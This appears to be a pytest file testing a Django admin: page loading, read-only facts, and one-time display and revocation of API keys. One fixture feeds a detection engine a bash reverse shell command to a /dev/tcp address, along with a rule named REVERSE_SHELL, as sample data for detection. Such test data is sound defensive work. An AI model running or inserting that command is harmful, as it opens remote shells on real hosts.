"""The Django admin: every registered page loads, and API keys can be issued and revoked there."""

from __future__ import annotations

import re
import uuid
from datetime import timedelta

import pytest
from django.contrib import admin
from django.contrib.admin.utils import quote
from django.contrib.auth import get_user_model
from django.contrib.messages import get_messages
from django.test import Client, RequestFactory
from django.urls import reverse
from django.utils import timezone
from django_q.models import OrmQ, Schedule, Task
from django_q.tasks import async_task
from rest_framework.test import APIClient

from decay.models import DecayPolicy
from stigmem.auth import hash_key
from stigmem.jobs import create_job
from stigmem.models import ApiKey, Conflict, Fact, NodeIdentity
from stigmem.node import ensure_identity
from stigmem.schedules import ensure_schedules
from stigmem.tombstones import create_tombstone, revoke_tombstone
from subscriptions.models import Subscription
from subscriptions.service import send_test_event
from tests.federation.helpers import make_remote_peer
from tests.ttprules.engine_helpers import REVERSE_SHELL, load_rules, run_engine
from ttprules.models import Tag
from ttprules.store import set_state


@pytest.fixture
def superuser(db):
    return get_user_model().objects.create_superuser("root", email="", password="a-long-test-password")


@pytest.fixture
def browser(superuser) -> Client:
    client = Client()
    client.force_login(superuser)
    return client


@pytest.fixture
def populated(client, superuser, tmp_path):
    """At least one row for every model registered in the admin."""
    for source, value in (("stigmem://test/agent/one", "red"), ("stigmem://test/agent/two", "blue")):
        response = client.post(
            "/v1/facts",
            {
                "entity": "stigmem://test/user/erin",
                "relation": "memory:color",
                "value": {"type": "string", "v": value},
                "source": source,
            },
            format="json",
        )
        assert response.status_code == 201
    garden = client.post("/v1/gardens", {"slug": "ops", "name": "Operations"}, format="json")
    assert garden.status_code == 201, garden.content
    subscription = client.post(
        "/v1/subscriptions",
        {"target": "company", "on_change": "wake", "delivery_address": "stigmem://test/agent/sleeper"},
        format="json",
    )
    assert subscription.status_code == 201, subscription.content
    send_test_event(Subscription.objects.get(id=subscription.json()["id"]), "admin:root")  # a Delivery row
    tombstone, _ = create_tombstone(tenant="default", entity_uri="stigmem://test/user/gone", scope="*", actor="test")
    revoke_tombstone(tenant="default", tombstone_id=tombstone.id, reason="lifted", actor="test")
    ensure_identity()
    ensure_schedules()
    make_remote_peer(status="pending_approval")
    get_user_model().objects.create_user("someone", password="another-long-password")
    from django.contrib.auth.models import Group

    Group.objects.create(name="operators")
    now = timezone.now()
    for n, success in enumerate((True, False)):
        Task.objects.create(
            id=uuid.uuid4().hex,
            name=f"task-{n}",
            func="stigmem.tasks.heartbeat",
            args=(),
            kwargs={},
            result=None if success else "ValueError: boom",
            started=now,
            stopped=now,
            success=success,
            attempt_count=1,
        )
    async_task("stigmem.tasks.heartbeat")  # a queued task (ORM broker)
    DecayPolicy.objects.create(tenant="default", name="chat", relation_prefix="chat:", ttl_seconds=86400)
    create_job("default", "decay", params={}, scope=None, dry_run=True, estimated_s=1, created_by="test")
    # A TTP rule with a state change, and a tag (and its ttp:technique fact) from the engine.
    load_rules(tmp_path / "rules", R1=REVERSE_SHELL)
    set_state("R1", "shadow", set_by="test")
    set_state("R1", "enabled", set_by="test")
    shell = {
        "entity": "stigmem://test/host/web-1",
        "relation": "observed:command",
        "value": {"type": "string", "v": "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"},
        "source": "stigmem://test/agent/sensor",
    }
    assert client.post("/v1/facts", shell, format="json").status_code == 201
    run_engine()
    assert Tag.objects.count() == 1
    assert Fact.objects.count() == 4  # two colors, the command, its ttp:technique fact
    assert Conflict.objects.count() == 1
    assert ApiKey.objects.count() >= 1
    assert NodeIdentity.objects.count() == 1
    assert Schedule.objects.count() >= 2
    assert Task.objects.filter(success=True).exists() and Task.objects.filter(success=False).exists()
    assert OrmQ.objects.exists()


def registered():
    return sorted(admin.site._registry.items(), key=lambda item: item[0]._meta.label)


def url(model, page: str, *args) -> str:
    # Quoted like the admin's own links: a pk such as "tomb_25..." would otherwise be unquoted to another one.
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_{page}", args=[quote(str(a)) for a in args])


def test_admin_index_lists_the_core_models(browser):
    response = browser.get("/admin/")
    assert response.status_code == 200
    html = response.content.decode()
    for model in (Fact, Conflict, ApiKey, NodeIdentity, Schedule):
        assert url(model, "changelist") in html


def test_anonymous_is_sent_to_login(db):
    response = Client().get(url(Fact, "changelist"))
    assert response.status_code == 302
    assert "/admin/login/" in response["Location"]


def test_every_changelist_and_add_page_loads(browser, populated, superuser):
    request = RequestFactory().get("/admin/")
    request.user = superuser
    models = registered()
    assert {Fact, Conflict, ApiKey, NodeIdentity, Schedule} <= {model for model, _ in models}
    for model, model_admin in models:
        changelist = browser.get(url(model, "changelist"))
        assert changelist.status_code == 200, model._meta.label
        assert changelist.context["cl"].result_count >= 1, model._meta.label
        add = browser.get(url(model, "add"))
        if model_admin.has_add_permission(request):
            assert add.status_code == 200, model._meta.label
            assert b"<form" in add.content
        else:
            # Rows the node writes itself are read-only in the admin.
            assert add.status_code == 403, model._meta.label
    for model in (Fact, Conflict, NodeIdentity):
        assert not admin.site._registry[model].has_add_permission(request)


def test_every_change_page_loads(browser, populated):
    for model, _ in registered():
        for obj in model._default_manager.all()[:3]:
            response = browser.get(url(model, "change", obj.pk))
            assert response.status_code == 200, (model._meta.label, obj.pk)


def test_changelist_search_and_filters(browser, populated):
    fact = Fact.objects.order_by("seq").first()
    conflict = Conflict.objects.get()
    by_fact = browser.get(url(Conflict, "changelist"), {"q": str(fact.id)})
    assert by_fact.status_code == 200
    assert [c.pk for c in by_fact.context["cl"].result_list] == [conflict.pk]
    by_text = browser.get(url(Conflict, "changelist"), {"q": "no-such-thing"})
    assert by_text.status_code == 200
    by_relation = browser.get(url(Fact, "changelist"), {"relation": "memory:color"})
    assert by_relation.status_code == 200
    assert by_relation.context["cl"].result_count == 2
    by_source = browser.get(url(Fact, "changelist"), {"source": "stigmem://test/agent/two"})
    assert [f.source for f in by_source.context["cl"].result_list] == ["stigmem://test/agent/two"]
    searched = browser.get(url(Fact, "changelist"), {"q": fact.cid})
    assert [f.pk for f in searched.context["cl"].result_list] == [fact.pk]


def test_facts_cannot_be_changed_or_deleted(browser, populated):
    fact = Fact.objects.order_by("seq").first()
    response = browser.post(url(Fact, "change", fact.pk), {"entity": "stigmem://x/y/z"})
    assert response.status_code == 403
    assert Fact.objects.get(pk=fact.pk).entity == "stigmem://test/user/erin"
    assert browser.post(url(Fact, "delete", fact.pk), {"post": "yes"}).status_code == 403
    assert Fact.objects.filter(pk=fact.pk).exists()


def test_creating_an_api_key_shows_the_raw_key_once(browser, db):
    expires = timezone.now() + timedelta(days=30)
    response = browser.post(
        url(ApiKey, "add"),
        {
            "tenant": "default",
            "entity_uri": "stigmem://test/agent/from-admin",
            "permissions": ["read", "write"],
            "description": "made in the admin",
            "expires_at_0": expires.strftime("%Y-%m-%d"),
            "expires_at_1": expires.strftime("%H:%M:%S"),
        },
        follow=True,
    )
    assert response.status_code == 200
    messages = [str(m) for m in get_messages(response.wsgi_request)]
    shown = [m for m in messages if "shown once" in m]
    assert len(shown) == 1, messages
    match = re.search(r"(sk_\S+)", shown[0])
    assert match, shown[0]
    raw = match.group(1)

    key = ApiKey.objects.get(entity_uri="stigmem://test/agent/from-admin")
    assert ApiKey.objects.filter(entity_uri="stigmem://test/agent/from-admin").count() == 1
    assert key.key_hash == hash_key(raw)
    assert key.permissions == ["read", "write"]
    assert key.description == "made in the admin"
    assert key.created_by == "admin:root"
    assert key.expires_at is not None and abs(key.expires_at - expires) < timedelta(seconds=1)
    for field in ApiKey._meta.fields:
        assert raw not in str(getattr(key, field.attname)), field.name

    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {raw}")
    me = api.get("/v1/me")
    assert me.status_code == 200
    assert me.json()["entity_uri"] == "stigmem://test/agent/from-admin"

    # Shown once: the change page never displays it again.
    page = browser.get(url(ApiKey, "change", key.pk))
    assert page.status_code == 200
    assert raw.encode() not in page.content
    assert b"stigmem://test/agent/from-admin" in page.content


def test_editing_an_api_key_changes_only_its_description(browser, admin_client):
    key = ApiKey.objects.get(pk=admin_client.key.pk)
    response = browser.post(
        url(ApiKey, "change", key.pk),
        {"description": "renamed", "entity_uri": "stigmem://evil/agent/x", "tenant": "other"},
    )
    assert response.status_code == 302
    key.refresh_from_db()
    assert key.description == "renamed"
    assert key.entity_uri == "stigmem://test/agent/admin"
    assert key.tenant == "default"
    assert admin_client.get("/v1/me").status_code == 200


def test_revoke_action(browser, make_client):
    keep = make_client(["read"], entity="stigmem://test/agent/keep")
    first = make_client(["read"], entity="stigmem://test/agent/first")
    second = make_client(["read"], entity="stigmem://test/agent/second")
    response = browser.post(
        url(ApiKey, "changelist"),
        {"action": "revoke_keys", "_selected_action": [str(first.key.pk), str(second.key.pk)]},
        follow=True,
    )
    assert response.status_code == 200
    assert "Revoked 2 key(s)." in [str(m) for m in get_messages(response.wsgi_request)]
    assert ApiKey.objects.get(pk=first.key.pk).revoked_at is not None
    assert ApiKey.objects.get(pk=second.key.pk).revoked_at is not None
    assert ApiKey.objects.get(pk=keep.key.pk).revoked_at is None
    assert first.get("/v1/me").status_code == 401
    assert second.get("/v1/me").status_code == 401
    assert keep.get("/v1/me").status_code == 200


def test_api_keys_cannot_be_deleted(browser, admin_client):
    key = admin_client.key
    assert browser.post(url(ApiKey, "delete", key.pk), {"post": "yes"}).status_code == 403
    assert ApiKey.objects.filter(pk=key.pk).exists()
